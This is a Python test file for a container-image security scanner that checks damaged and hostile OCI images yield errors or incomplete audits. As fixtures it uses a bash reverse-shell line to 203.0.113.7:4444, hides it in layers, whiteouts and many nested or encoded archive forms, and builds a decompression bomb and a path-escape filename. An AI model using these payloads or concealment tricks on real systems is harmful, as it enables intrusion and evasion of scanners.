"""Broken and hostile images: a clear message or an incomplete audit with its reason, never a crash, never clean."""
import base64
import gzip
import io
import json
import os
import resource
import struct
import subprocess
import tarfile
import zipfile

import support  # first: it sets the path
import images
import incident_2018

SHELL = "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"


def layout(folder, layers, **options):
    image = images.Image(layers, **options)
    images.write_layout(folder, {"latest": image})
    return image


def blob(folder, data):
    return os.path.join(folder, "blobs", "sha256", images.digest(data)[7:])


def rules(report):
    return {f["rule"] for f in report["findings"]}


def test_a_truncated_layer_is_incomplete():
    with support.temporary_folder() as folder:
        layer = images.layer(images.File("a", os.urandom(200000)), images.File("b", b"b" * 1000))
        layout(folder, [layer])
        path = blob(folder, images.zipped(layer))
        data = open(path, "rb").read()
        open(path, "wb").write(data[:len(data) // 2])
        code, report, _ = support.scan(f"oci:{folder}")
        assert code == 3 and report["coverage"]["incomplete"], (code, report["verdict"])
        assert "integrity.blob-digest" in rules(report) and report["verdict"] != "clean"


def test_a_layer_with_other_bytes_than_its_digest_is_found():
    with support.temporary_folder() as folder:
        layer = images.layer(images.File("a", "a"))
        layout(folder, [layer])
        open(blob(folder, images.zipped(layer)), "wb").write(images.zipped(images.layer(images.File("run.sh", SHELL, mode=0o755))))
        _, report, _ = support.scan(f"oci:{folder}")
        assert {"integrity.blob-digest", "integrity.diff-id"} <= rules(report), rules(report)
        assert report["verdict"] == "malicious"


def test_a_missing_layer_is_incomplete():
    with support.temporary_folder() as folder:
        layer = images.layer(images.File("a", "a"))
        layout(folder, [layer])
        os.unlink(blob(folder, images.zipped(layer)))
        code, report, _ = support.scan(f"oci:{folder}")
        assert code == 3 and report["verdict"] == "incomplete"


def test_deleted_overwritten_and_whiteout_content_is_found():
    bad = images.layer(images.File("opt/x.sh", SHELL, mode=0o755))
    for name, later in {"deleted": images.layer(images.File("opt/.wh.x.sh")), "overwritten": images.layer(images.File("opt/x.sh", "#!/bin/sh\necho hello\n")),
                        "opaque": images.layer(images.File("opt/.wh..wh..opq"))}.items():
        with support.temporary_folder() as folder:
            layout(folder, [bad, later])
            _, report, _ = support.scan(f"oci:{folder}", check=1)
            found = [f for f in report["findings"] if f["rule"] == "reverse-shell.dev-tcp"]
            assert found and not found[0]["location"]["in_final_rootfs"], name
    with support.temporary_folder() as folder:
        layout(folder, [images.layer(images.File("opt/.wh.hidden", SHELL))])
        support.scan(f"oci:{folder}", check=1)


def test_a_blob_that_no_manifest_refers_to_is_audited():
    with support.temporary_folder() as folder:
        image = images.Image([images.layer(images.File("a", "a"))])
        images.write_layout(folder, {"latest": image}, extra_blobs=[images.zipped(images.layer(images.File("x.sh", SHELL)))])
        _, report, _ = support.scan(f"oci:{folder}", check=1)
        assert "hidden-content.unreferenced-blob" in rules(report)


def nested_forms():
    script = SHELL.encode()
    inner = io.BytesIO()
    with tarfile.open(fileobj=inner, mode="w") as tar:
        info = tarfile.TarInfo("x/y.sh")
        info.size = len(script)
        tar.addfile(info, io.BytesIO(script))
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("x.sh", script)
    twice = io.BytesIO()
    with zipfile.ZipFile(twice, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("inner.zip", packed.getvalue())
    ar = b"!<arch>\n" + b"data.tar.gz/    0           0     0     100644  %-10d`\n" % len(gzip.compress(inner.getvalue())) + gzip.compress(inner.getvalue())
    import bz2
    import lzma
    return {
        "gz": gzip.compress(script), "bz2": bz2.compress(script), "xz": lzma.compress(script), "tar": inner.getvalue(), "tar.gz": gzip.compress(inner.getvalue()),
        "zip": packed.getvalue(), "zip-in-zip": twice.getvalue(), "ar": ar, "base64": b"payload=" + base64.b64encode(script * 3) + b"\n",
        "base64-gzip": b'x = "' + base64.b64encode(gzip.compress(script)) + b'"\n', "hex": b"x=" + script.hex().encode() + b"\n",
        "second-gzip-member": gzip.compress(b"nothing here\n") + gzip.compress(script), "behind-zip-end": packed.getvalue()[:0] + zip_of_nothing() + script,
    }


def zip_of_nothing():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a", "a")
    return out.getvalue()


def test_nested_and_encoded_payloads_are_found():
    for name, data in nested_forms().items():
        with support.temporary_folder() as folder:
            layout(folder, [images.layer(images.File(f"opt/payload.{name}", data))])
            code, report, _ = support.scan(f"oci:{folder}")
            assert "reverse-shell.dev-tcp" in rules(report), f"{name}: {code} {rules(report)}"


def test_second_gzip_member_and_trailing_data_of_a_layer_are_found():
    clean, bad = images.layer(images.File("a", "a")), SHELL.encode() * 20
    for name, stored in {"member": images.zipped(clean) + gzip.compress(bad), "trailing": images.zipped(clean) + bad,
                         "skippable": struct.pack("<II", 0x184D2A50, len(bad)) + bad + subprocess.run(["zstd", "-c"], input=clean, capture_output=True).stdout}.items():
        with support.temporary_folder() as folder:
            layout(folder, [clean])
            manifest_path = None
            for entry in os.scandir(f"{folder}/blobs/sha256"):
                data = open(entry.path, "rb").read()
                if b"schemaVersion" in data:
                    manifest_path, manifest = entry.path, json.loads(data)
            old = manifest["layers"][0]
            os.unlink(f"{folder}/blobs/sha256/{old['digest'][7:]}")
            old.update(digest=images.digest(stored), size=len(stored))
            open(blob(folder, stored), "wb").write(stored)
            os.unlink(manifest_path)
            data = json.dumps(manifest).encode()
            open(blob(folder, data), "wb").write(data)
            index = json.load(open(f"{folder}/index.json"))
            index["manifests"][0].update(digest=images.digest(data), size=len(data))
            json.dump(index, open(f"{folder}/index.json", "w"))
            _, report, _ = support.scan(f"oci:{folder}")
            assert "reverse-shell.dev-tcp" in rules(report), f"{name}: {rules(report)}"


def test_a_bomb_is_bounded_and_incomplete():
    with support.temporary_folder() as folder:
        bomb = gzip.compress(gzip.compress(b"\0" * (256 << 20)))
        layout(folder, [images.layer(images.File("bomb.gz", bomb))])
        before = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
        code, report, _ = support.scan(f"oci:{folder}", "--limit-nested-bytes", str(64 << 20))
        assert code == 3 and report["verdict"] == "incomplete", (code, report["verdict"])
        assert resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss < max(before, 300 << 10)


def test_names_that_lead_out_are_reported_and_harmless():
    with support.temporary_folder() as folder:
        layout(folder, [images.layer(images.File("../../../../tmp/lazaret-escape", "x"), images.File("a\nb\x1b[2J", "x"))])
        _, report, _ = support.scan(f"oci:{folder}")
        assert "anomaly.tar-path-escape" in rules(report)
        assert not os.path.exists("/tmp/lazaret-escape")


def test_bad_documents_give_a_message():
    for name, index, wanted in (("no json", "{", 2), ("deep", '{"manifests":' + "[" * 1000 + "]" * 1000 + "}", 2), ("empty", '{"schemaVersion":2,"manifests":[]}', 2)):
        with support.temporary_folder() as folder:
            layout(folder, [images.layer(images.File("a", "a"))])
            open(f"{folder}/index.json", "w").write(index)
            code, report, problem = support.scan(f"oci:{folder}")
            assert code in (wanted, 3), (name, code)
            assert problem.startswith("lazaret: ") or report, name


def test_duplicate_keys_are_reported():
    with support.temporary_folder() as folder:
        layout(folder, [images.layer(images.File("a", "a"))])
        index = open(f"{folder}/index.json").read()
        open(f"{folder}/index.json", "w").write(index[:-1] + ', "manifests": [] , "Manifests": []}')
        code, report, _ = support.scan(f"oci:{folder}")
        assert code == 2 or "anomaly.json-duplicate-key" in rules(report) or report["findings"], code


def test_usage_errors_say_what_to_do():
    for arguments in (["oci:/does/not/exist"], ["--rules", "/does/not/exist", "x"], ["--policy", "/does/not/exist", "x"], ["--format", "nonsense", "x"], []):
        done = subprocess.run([support.LAZARET, "scan"] + arguments, capture_output=True, text=True, timeout=60)
        assert done.returncode == 2 and done.stderr.strip(), (arguments, done.returncode, done.stderr)


def test_a_damaged_cache_is_made_anew():
    with support.temporary_folder() as folder:
        layout(f"{folder}/oci", [images.layer(images.File("a", "a"))])
        support.scan(f"oci:{folder}/oci", cache=f"{folder}/cache", check=0)
        open(f"{folder}/cache/audits.sqlite", "wb").write(b"this is no database" * 1000)
        _, report, problem = support.scan(f"oci:{folder}/oci", cache=f"{folder}/cache", check=0)
        assert "cache" in problem and report["verdict"] == "clean"
        _, again, problem = support.scan(f"oci:{folder}/oci", cache=f"{folder}/cache", check=0)
        assert again == report and not problem


def test_a_cached_audit_equals_a_fresh_one():
    with support.temporary_folder() as folder:
        image, _ = incident_2018.images()["cronm"]
        images.write_layout(f"{folder}/oci", {"latest": image})
        reports = [support.scan(f"oci:{folder}/oci", cache=f"{folder}/cache", check=1)[1] for _ in range(2)]
        assert reports[0] == reports[1] == support.scan(f"oci:{folder}/oci", check=1)[1]


def test_yara_rules_of_users_work():
    with support.temporary_folder() as folder:
        layout(f"{folder}/oci", [images.layer(images.File("opt/x", "needle-in-the-hay"))])
        open(f"{folder}/r.yar", "w").write('import "hash"\nrule needle { meta: author = "somebody" score = 75 strings: $a = "needle-in-the-hay" condition: $a and filename == "x" and filesize < 1KB }\n')
        _, report, _ = support.scan("--rules", f"{folder}/r.yar", f"oci:{folder}/oci")
        assert "yara.r.yar.needle" in rules(report), rules(report)
        open(f"{folder}/bad.yar", "w").write("rule broken { condition: $x }\n")
        code, _, problem = support.scan("--rules", f"{folder}/bad.yar", f"oci:{folder}/oci")
        assert code == 2 and "bad.yar:1" in problem, problem
        open(f"{folder}/cuckoo.yar", "w").write('import "cuckoo"\nrule c { condition: cuckoo.network.http_get(/x/) }\n')
        code, _, problem = support.scan("--rules", f"{folder}/cuckoo.yar", f"oci:{folder}/oci")
        assert code == 2 and "cuckoo" in problem, problem


if __name__ == "__main__":
    support.main(globals())
